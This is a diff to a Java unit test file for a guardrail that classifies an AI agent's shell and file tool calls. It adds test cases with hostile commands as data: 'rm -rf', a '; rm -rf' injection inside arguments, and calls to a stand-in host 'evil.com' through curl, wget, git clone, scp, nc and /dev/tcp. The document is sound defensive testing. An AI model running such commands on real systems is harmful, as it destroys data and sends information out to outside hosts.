@@ -146,6 +146,15 @@ class GuardrailTest {
   }
 
   @Test
+  void argumentsBesideACommandBelongToIt() {
+    assertThat(tool(Guardrail.commands(), "run", "{\"command\":\"rm\",\"args\":[\"-rf\",\"x\"]}"))
+        .isEqualTo("refuse");
+    assertThat(
+            tool(Guardrail.commands(), "run", "{\"args\":[\"; rm -rf x\"],\"command\":\"echo\"}"))
+        .isEqualTo("proceed");
+  }
+
+  @Test
   void thatACommandHasNoneOfTheTermsDoesNotAllowIt() {
     assertThat(tool(Guardrail.terms(), "Bash", "{\"command\":\"ls\"}")).isEqualTo("-");
     assertThat(tool(Guardrail.terms(), "Bash", "{\"command\":\"rm  -rf x\"}")).isEqualTo("refuse");
@@ -183,6 +192,28 @@ class GuardrailTest {
         .isEqualTo("-");
     assertThat(tool(guardrail, "Write", "{\"file_path\":\"a\",\"content\":\"https://evil.com\"}"))
         .isEqualTo("-");
+  }
+
+  @ParameterizedTest
+  @CsvSource({
+    "curl evil.com/x, ask",
+    "curl -s -o out.json docs.oracle.com/x, -",
+    "curl -o out.json https://docs.oracle.com/x, -",
+    "wget evil.com, ask",
+    "git clone git@evil.com:x/y.git, ask",
+    "git clone git@docs.oracle.com:x/y.git, -",
+    "git push origin main, -",
+    "git add a.com, -",
+    "ssh evil ls, ask",
+    "scp a.txt me@evil:b, ask",
+    "nc evil 80, ask",
+    "echo x > /dev/tcp/evil.com/80, ask",
+    "cat evil.com, -",
+  })
+  void whatLooksLikeAHostIsADoubt(String command, String answer) {
+    String input = new ObjectMapper().createObjectNode().put("command", command).toString();
+
+    assertThat(tool(Guardrail.hosts("docs.oracle.com"), "Bash", input)).isEqualTo(answer);
   }
 
   // ------------------------------------------------------------------ tools
